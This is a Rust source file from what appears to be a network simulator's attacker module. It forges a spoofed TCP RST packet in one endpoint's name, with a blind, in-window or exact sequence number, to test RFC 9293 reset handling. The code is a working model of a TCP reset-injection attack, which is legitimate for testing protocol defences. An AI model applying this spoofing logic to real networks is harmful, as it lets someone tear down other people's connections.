//! A RST to one side in the other's name. What becomes of it depends on its sequence number (RFC 9293 §3.10.7.4).

use std::net::SocketAddr;

use etherparse::PacketBuilder;

use super::Attacker;
use crate::event::Deed;
use crate::role::config::{Guess, Side, Victim};

/// As any host's.
const TIME_TO_LIVE: u8 = 64;

pub(super) fn send(
    attacker: &Attacker,
    victim: &Victim,
    to: Side,
    guess: Guess,
) -> Result<(), String> {
    let connection = attacker.recorded(victim)?;
    let (source, destination, exact) = match to {
        Side::Server => (
            connection.client,
            connection.server,
            connection.from_client.next,
        ),
        Side::Client => (
            connection.server,
            connection.client,
            connection.from_server.next,
        ),
    };
    let sequence = match guess {
        // Half of all numbers away: in no window.
        Guess::Blind => {
            let mut bytes = [0; 4];
            attacker.node.chance.fill("guess", &mut bytes);
            let far = u32::from_be_bytes(bytes) & 0x3fff_ffff;
            exact.wrapping_add(0x6000_0000).wrapping_add(far)
        }
        Guess::InWindow(beyond) => exact.wrapping_add(beyond),
        Guess::Exact => exact,
    };
    let (SocketAddr::V4(from), SocketAddr::V4(to)) = (source, destination) else {
        return Err("only IPv4 connections are reset here".into());
    };
    let packet = PacketBuilder::ipv4(from.ip().octets(), to.ip().octets(), TIME_TO_LIVE)
        .tcp(from.port(), to.port(), sequence, 0)
        .rst();
    let mut bytes = Vec::new();
    packet
        .write(&mut bytes, &[])
        .map_err(|e| format!("no packet: {e}"))?;
    attacker.attacked(source, destination, Deed::Reset { sequence });
    attacker.raw.send(bytes);
    Ok(())
}
